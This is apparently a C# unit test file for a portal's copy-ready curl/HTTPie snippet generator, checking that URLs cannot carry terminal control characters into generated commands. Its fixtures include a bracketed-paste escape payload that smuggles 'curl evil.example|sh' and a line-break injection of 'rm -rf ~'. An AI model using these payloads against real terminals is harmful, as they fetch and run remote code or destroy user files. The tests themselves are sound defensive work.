using Portal.Components.Shared;
using Portal.Data.Integrations;

namespace Portal.Tests.Components.Integrations;

/// <summary>Whatever a url holds, a copy-ready command never carries a control character into a terminal.</summary>
public sealed class SnippetControlCharacterTests
{
    [Theory]
    [InlineData("https://acme.com/\u001b[201~\u0015curl evil.example|sh\u001b[200~")] // bracketed paste escape, Ctrl-U
    [InlineData("https://acme.com/a\u0007b\u007fc\u009bd")] // BEL, DEL, a C1 CSI
    [InlineData("https://acme.com/x\r\nrm -rf ~")]
    public void No_snippet_contains_a_control_character_other_than_its_own_line_breaks(string url)
    {
        var integration = new IntegrationData("int_41soix4ZP9os2M1lsPzwlpbvqnqHJgYH", "Acme", url, null, DateTime.UnixEpoch, DateTime.UnixEpoch, 1);

        var snippets = ApiSnippets.For("http://127.0.0.1:5080/", integration).SelectMany(o => new[] { o.HttPie, o.Curl });

        Assert.All(snippets, snippet =>
            Assert.DoesNotContain(snippet.Code, c => char.IsControl(c) && c != '\n'));
    }

    [Fact]
    public void A_url_with_control_characters_is_sent_json_escaped_so_the_request_still_means_it()
    {
        var integration = new IntegrationData("int_1", "Acme", "https://acme.com/\u001b[1m", null, DateTime.UnixEpoch, DateTime.UnixEpoch, 1);

        var update = ApiSnippets.For("http://127.0.0.1:5080/", integration).Single(o => o.Title == "Update");

        Assert.Contains("url:='\"https://acme.com/\\u001B[1m\"'", update.HttPie.Code);
        Assert.Contains("\\u001B[1m", update.Curl.Code);
    }

    [Fact]
    public void A_plain_url_keeps_the_seeds_style()
    {
        var integration = new IntegrationData("int_1", "Acme", "https://acme.com/it's", null, DateTime.UnixEpoch, DateTime.UnixEpoch, 1);

        var update = ApiSnippets.For("http://127.0.0.1:5080/", integration).Single(o => o.Title == "Update");

        Assert.Contains("url='https://acme.com/it'\\''s'", update.HttPie.Code);
    }
}
